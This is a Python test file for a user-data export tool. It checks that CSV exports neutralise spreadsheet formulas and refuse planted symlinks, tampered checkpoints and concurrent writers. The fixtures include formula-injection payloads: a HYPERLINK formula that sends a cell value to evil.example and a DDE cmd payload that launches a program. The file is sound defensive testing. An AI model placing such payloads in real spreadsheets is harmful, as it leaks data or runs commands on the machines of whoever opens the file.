"""Exports against planted files, tampered checkpoints, concurrent runs and spreadsheet formulas (issue 15 items 2,
3, 4, 8, 9; issue 13 item 9): every case either works exactly or is refused with an ExportError before harm."""

from __future__ import annotations

import json
import os
import threading
import time

import orjson
import polars as pl
import pytest
from helpers_frames import FakeUsersTransport, expected_ids, users_stream

from genesys_nb.errors import ExportError, ServerError
from genesys_nb.export.orchestrate import check_target, export
from genesys_nb.export.textsafe import neutralise_formulas

HOSTILE = ['=HYPERLINK("http://evil.example/?"&A2,"Click me")', "=cmd|' /C calc'!A0", "+1+2", "-2+3", "@SUM(1+1)",
           "\tTab first", "\rReturn first"]


def hostile_transport(n: int = 30) -> FakeUsersTransport:
    t = FakeUsersTransport(n)
    for i, user in enumerate(t.users("any")):
        if i < len(HOSTILE):
            user["name"] = HOSTILE[i]
            user["title"] = "-Manager" if i == 0 else user.get("title")
    return t


def paused_stream(t: FakeUsersTransport, gate: threading.Event, started: threading.Event, *, after: int = 2,
                  **kw):
    stream = users_stream(t, **kw)
    pages = stream.pages

    def slow():
        for page in pages():
            yield page
            if page.number == after:
                started.set()
                gate.wait(20)

    stream.pages = slow
    return stream


def failed_export(tmp_path, fmt, *, users=200, fail_at=4, page_size=20, chunk_rows=20):
    """An export that failed at page ``fail_at``, leaving its partial file and checkpoint."""
    t = FakeUsersTransport(users, fail_at=(fail_at,), fail_times=1)
    out = tmp_path / f"u.{fmt}"
    with pytest.raises(ServerError):
        export(users_stream(t, page_size=page_size), out, chunk_rows=chunk_rows, progress=False)
    return t, out, tmp_path / f"u.{fmt}.checkpoint.json"


def edit_checkpoint(path, **changes):
    state = json.loads(path.read_text())
    state.update(changes)
    path.write_text(json.dumps(state))


# -- CSV formula injection ----------------------------------------------------------------------------------------
def test_csv_cells_that_could_run_as_formulas_are_neutralised(tmp_path):
    t = hostile_transport()
    out = tmp_path / "u.csv"
    export(users_stream(t, page_size=10), out, progress=False)
    names = pl.read_csv(out, infer_schema=False)["name"].to_list()
    assert names[:len(HOSTILE)] == ["'" + h for h in HOSTILE]
    assert names[len(HOSTILE)] == f"User {len(HOSTILE)}"  # ordinary text untouched
    assert pl.read_csv(out, infer_schema=False)["title"][0] == "'-Manager"
    raw = out.read_bytes()
    assert b"\n=" not in raw and b",=" not in raw and b",+1+2" not in raw


def test_csv_safe_false_writes_the_cells_verbatim(tmp_path):
    t = hostile_transport()
    out = tmp_path / "u.csv"
    export(users_stream(t, page_size=10), out, progress=False, csv_safe=False)
    assert pl.read_csv(out, infer_schema=False)["name"].to_list()[:len(HOSTILE)] == HOSTILE


def test_neutralise_formulas_is_a_pure_frame_function():
    df = pl.DataFrame({"s": ["=1+1", "+13175550100", "-2.5", "-2+3", "@x", "plain", None, "a=b"],
                       "n": [-1, 2, 3, 4, 5, 6, 7, 8]})
    out = neutralise_formulas(df)
    assert out["s"].to_list() == ["'=1+1", "+13175550100", "-2.5", "'-2+3", "'@x", "plain", None, "a=b"]
    assert out["n"].to_list() == df["n"].to_list() and df["s"][0] == "=1+1"  # the input is not changed


@pytest.mark.parametrize("dtype", [pl.Categorical, pl.Enum(["=1+1", "-2+3", "@x", "plain", "+13175550100"])])
def test_categorical_and_enum_text_is_neutralised_too(dtype):
    df = pl.DataFrame({"s": ["=1+1", "-2+3", "@x", "plain", "+13175550100", None]}, schema={"s": dtype})
    out = neutralise_formulas(df)
    assert out["s"].to_list() == ["'=1+1", "'-2+3", "'@x", "plain", "+13175550100", None]
    assert out["s"].dtype == pl.String


def test_sql_csv_neutralises_duckdb_enums(tmp_path, capsys):
    """DuckDB's ENUM arrives as a polars Categorical: `genesys-nb sql --format csv` used to write it verbatim."""
    from genesys_nb.cli.app import main

    from helpers_snapshots import acme

    query = "select cast('=HYPERLINK(\"http://x.test\")' as enum('=HYPERLINK(\"http://x.test\")', 'b')) as e"
    assert main(["sql", str(acme(tmp_path / "s")), query, "--format", "csv"]) == 0
    assert capsys.readouterr().out.splitlines()[1] == "\"'=HYPERLINK(\"\"http://x.test\"\")\""


def test_cli_head_csv_is_neutralised(monkeypatch, capsys):
    import genesys_nb.cli.app as cli

    t = hostile_transport()

    class FakeClient:
        stats = {"requests": 0}

        def __enter__(self):
            return self

        def __exit__(self, *exc):
            pass

        def users(self, *, state, expand, page_size, strategy, concurrency, max_items=None):
            return users_stream(t, state=state, expand=tuple(expand or ()), page_size=10, max_items=max_items)

    monkeypatch.setattr(cli, "_connect", lambda args: FakeClient())
    assert cli.main(["users", "head", "-n", "8", "--format", "csv", "--state", "any"]) == 0
    out = capsys.readouterr().out
    names = pl.read_csv(out.encode(), infer_schema=False)["name"].to_list()
    assert names[:len(HOSTILE)] == ["'" + h for h in HOSTILE]


# -- one writer per output ------------------------------------------------------------------------------------------
def test_a_second_export_of_the_same_file_waits_for_nothing_and_harms_nothing(tmp_path):
    t = FakeUsersTransport(200)
    out = tmp_path / "u.csv"
    gate, started, result = threading.Event(), threading.Event(), {}

    def first():
        try:
            result["summary"] = export(paused_stream(t, gate, started, page_size=20), out, progress=False)
        except BaseException as exc:  # pragma: no cover - reported below
            result["error"] = exc

    runner = threading.Thread(target=first)
    runner.start()
    try:
        assert started.wait(20)
        for kwargs in ({"overwrite": True}, {"resume": True}, {}):
            other = FakeUsersTransport(200)
            with pytest.raises(ExportError, match=f"already running, pid {os.getpid()}"):
                export(users_stream(other, page_size=20), out, progress=False, **kwargs)
            assert other.requests == []
        with pytest.raises(ExportError, match="already running"):
            check_target(out, resume=True)
    finally:
        gate.set()
        runner.join(30)
    assert "error" not in result and result["summary"].rows == 200
    assert pl.read_csv(out)["id"].to_list() == expected_ids(t)
    assert sorted(p.name for p in tmp_path.iterdir()) == ["u.csv"]


def test_a_lock_left_by_a_dead_run_is_taken_over(tmp_path):
    out = tmp_path / "u.ndjson"
    (tmp_path / "u.ndjson.lock").write_text("999999\n")  # a run that was killed: nobody holds the lock
    summary = export(users_stream(FakeUsersTransport(30)), out, progress=False)
    assert summary.rows == 30 and sorted(p.name for p in tmp_path.iterdir()) == ["u.ndjson"]


def test_two_processes_on_one_output(tmp_path):
    """A real second process: refused with the first one's pid while the lock is held."""
    import subprocess
    import sys

    from genesys_nb.export.lock import OutputLock

    out = tmp_path / "u.ndjson"
    with OutputLock(out):
        code = ("import sys; from genesys_nb.export.orchestrate import check_target\n"
                "try:\n check_target(sys.argv[1])\nexcept Exception as e:\n print(e)\n")
        proc = subprocess.run([sys.executable, "-c", code, str(out)], capture_output=True, text=True, timeout=60,
                              env={**os.environ, "PYTHONPATH": os.pathsep.join(sys.path)})
    assert f"already running, pid {os.getpid()}" in proc.stdout, proc.stderr
    export(users_stream(FakeUsersTransport(5)), out, progress=False)  # released: the next run works


# -- planted symbolic links -----------------------------------------------------------------------------------------
def test_a_symlinked_parts_folder_is_refused_and_its_files_survive(tmp_path):
    t, out, checkpoint = failed_export(tmp_path, "parquet")
    victim = tmp_path / "victim"
    victim.mkdir()
    (victim / "precious.txt").write_text("keep")
    parts = tmp_path / "u.parquet.parts"
    for p in parts.iterdir():
        p.rename(victim / p.name)
    parts.rmdir()
    parts.symlink_to(victim, target_is_directory=True)
    with pytest.raises(ExportError, match="symbolic link"):
        export(users_stream(t, page_size=20), out, resume=True, progress=False)
    with pytest.raises(ExportError, match="symbolic link"):
        export(users_stream(t, page_size=20), out, overwrite=True, progress=False)
    assert (victim / "precious.txt").read_text() == "keep" and len(list(victim.iterdir())) > 1


def test_a_planted_checkpoint_temp_link_is_never_written_through(tmp_path):
    victim = tmp_path / "victim.txt"
    victim.write_text("keep")
    (tmp_path / "u.csv.checkpoint.json.tmp").symlink_to(victim)
    export(users_stream(FakeUsersTransport(30)), tmp_path / "u.csv", progress=False)
    assert victim.read_text() == "keep"


def test_the_writability_probe_never_truncates_a_planted_file(tmp_path):
    victim = tmp_path / "victim.txt"
    victim.write_text("keep")
    (tmp_path / f".genesys-nb-probe-{os.getpid()}").symlink_to(victim)
    check_target(tmp_path / "u.parquet")
    export(users_stream(FakeUsersTransport(3)), tmp_path / "u.parquet", progress=False)
    assert victim.read_text() == "keep"


def test_a_symlinked_checkpoint_is_refused(tmp_path):
    t, out, checkpoint = failed_export(tmp_path, "ndjson")
    real = tmp_path / "elsewhere.json"
    checkpoint.rename(real)
    checkpoint.symlink_to(real)
    with pytest.raises(ExportError, match="(?i)symbolic link"):
        export(users_stream(t, page_size=20), out, resume=True, progress=False)


def test_a_folder_inside_the_parts_folder_is_refused(tmp_path):
    t, out, _ = failed_export(tmp_path, "parquet")
    (tmp_path / "u.parquet.parts" / "mine").mkdir()
    with pytest.raises(ExportError, match="'mine', a folder"):
        export(users_stream(t, page_size=20), out, resume=True, progress=False)
    assert (tmp_path / "u.parquet.parts" / "mine").is_dir()


# -- checkpoints that do not match their files -----------------------------------------------------------------------
@pytest.mark.parametrize("fmt", ["ndjson", "csv"])
def test_an_unrelated_part_of_the_right_size_is_refused(tmp_path, fmt):
    t, out, _ = failed_export(tmp_path, fmt)
    part = tmp_path / f"u.{fmt}.part"
    part.write_bytes(b"x" * part.stat().st_size)
    with pytest.raises(ExportError, match="does not match its checkpoint.*overwrite"):
        export(users_stream(t, page_size=20), out, resume=True, progress=False)
    assert not out.exists()


@pytest.mark.parametrize("fmt", ["ndjson", "csv"])
def test_complete_on_a_short_file_is_refused(tmp_path, fmt):
    t, out, checkpoint = failed_export(tmp_path, fmt)
    edit_checkpoint(checkpoint, complete=True, resume_token=None)
    part = tmp_path / f"u.{fmt}.part"
    with open(part, "r+b") as fh:
        fh.truncate(part.stat().st_size // 2)
    with pytest.raises(ExportError, match="does not match its checkpoint"):
        export(users_stream(t, page_size=20), out, resume=True, progress=False)
    assert not out.exists()


def test_complete_with_a_place_to_continue_is_refused(tmp_path):
    t, out, checkpoint = failed_export(tmp_path, "ndjson")
    edit_checkpoint(checkpoint, complete=True)
    with pytest.raises(ExportError, match="does not add up"):
        export(users_stream(t, page_size=20), out, resume=True, progress=False)


def test_offset_zero_with_rows_is_refused(tmp_path):
    t, out, checkpoint = failed_export(tmp_path, "ndjson")
    edit_checkpoint(checkpoint, offset=0)
    with pytest.raises(ExportError, match="does not match its checkpoint"):
        export(users_stream(t, page_size=20), out, resume=True, progress=False)


def test_a_changed_parquet_part_is_refused(tmp_path):
    t, out, _ = failed_export(tmp_path, "parquet")
    last = sorted((tmp_path / "u.parquet.parts").iterdir())[-1]
    pl.read_parquet(last).head(1).write_parquet(last)
    with pytest.raises(ExportError, match="does not match the checkpoint"):
        export(users_stream(t, page_size=20), out, resume=True, progress=False)


def test_two_million_parts_are_refused_at_once(tmp_path):
    t, out, checkpoint = failed_export(tmp_path, "parquet")
    edit_checkpoint(checkpoint, parts=2_000_000)
    started = time.monotonic()
    with pytest.raises(ExportError, match="Parquet parts"):
        export(users_stream(t, page_size=20), out, resume=True, progress=False)
    assert t.requests and time.monotonic() - started < 30  # generous: refused without a stat per part


@pytest.mark.parametrize("field,value", [("offset", -1), ("offset", "abc"), ("rows", "many"), ("pages", None),
                                         ("records", 1.5), ("complete", "yes"), ("expand", "groups"),
                                         ("tail", {"file": "x"}), ("seconds", "soon")])
def test_checkpoint_fields_of_the_wrong_type_are_an_export_error(tmp_path, field, value):
    t, out, checkpoint = failed_export(tmp_path, "ndjson")
    edit_checkpoint(checkpoint, **{field: value})
    t.requests.clear()
    with pytest.raises(ExportError, match=f"{field}.*overwrite"):
        export(users_stream(t, page_size=20), out, resume=True, progress=False)
    assert t.requests == []
    summary = export(users_stream(t, page_size=20), out, overwrite=True, progress=False)  # the advice works
    assert summary.rows == 200


def test_a_very_long_output_name_is_refused_before_any_request(tmp_path):
    t = FakeUsersTransport(10)
    with pytest.raises(ExportError, match="characters"):
        export(users_stream(t), tmp_path / ("u" * 238 + ".ndjson"), progress=False)
    assert t.requests == []


# -- arguments and words --------------------------------------------------------------------------------------------
def test_overwrite_and_resume_together_are_refused(tmp_path):
    t = FakeUsersTransport(10)
    with pytest.raises(ExportError, match="not both"):
        export(users_stream(t), tmp_path / "u.csv", overwrite=True, resume=True, progress=False)
    assert t.requests == []


def test_cli_refuses_overwrite_with_resume_and_says_page_size_before_the_existing_file(tmp_path, capsys):
    from genesys_nb.cli.app import main

    out = tmp_path / "u.csv"
    out.write_text("keep")
    assert main(["users", "export", str(out), "--sandbox", "--overwrite", "--resume"]) == 2
    assert "not both" in capsys.readouterr().err
    assert main(["users", "export", str(out), "--sandbox", "--page-size", "501"]) == 2
    err = capsys.readouterr().err
    assert "page_size" in err and "already exists" not in err
    assert out.read_text() == "keep"


def test_an_interrupt_before_anything_was_fetched_leaves_nothing_and_no_resume_advice(tmp_path, capsys,
                                                                                      monkeypatch):
    import genesys_nb.cli.app as cli

    stream = users_stream(FakeUsersTransport(50))

    def interrupted():
        raise KeyboardInterrupt
        yield  # pragma: no cover

    stream.pages = interrupted
    out = tmp_path / "u.parquet"
    with pytest.raises(KeyboardInterrupt) as info:
        export(stream, out, progress=False)
    assert "resume" not in "".join(getattr(info.value, "__notes__", []))
    assert list(tmp_path.iterdir()) == []

    class FakeClient:
        stats = {"requests": 0}

        def __enter__(self):
            return self

        def __exit__(self, *exc):
            pass

        def users(self, **kw):
            again = users_stream(FakeUsersTransport(50))
            again.pages = interrupted
            return again

    monkeypatch.setattr(cli, "_connect", lambda args: FakeClient())
    assert cli.main(["users", "export", str(out), "--no-progress"]) == 130
    err = capsys.readouterr().err
    assert "Nothing was written" in err and "with --resume to continue" not in err
    assert list(tmp_path.iterdir()) == []


def test_cli_summary_says_1_page(monkeypatch, capsys, tmp_path):
    import genesys_nb.cli.app as cli

    class FakeClient:
        stats = {"requests": 0}

        def __enter__(self):
            return self

        def __exit__(self, *exc):
            pass

        def users(self, **kw):
            return users_stream(FakeUsersTransport(3), page_size=10)

    monkeypatch.setattr(cli, "_connect", lambda args: FakeClient())
    assert cli.main(["users", "export", str(tmp_path / "u.ndjson"), "--no-progress"]) == 0
    line = capsys.readouterr().out
    assert "1 page, 1 request" in line and "1 pages" not in line and "1 requests" not in line
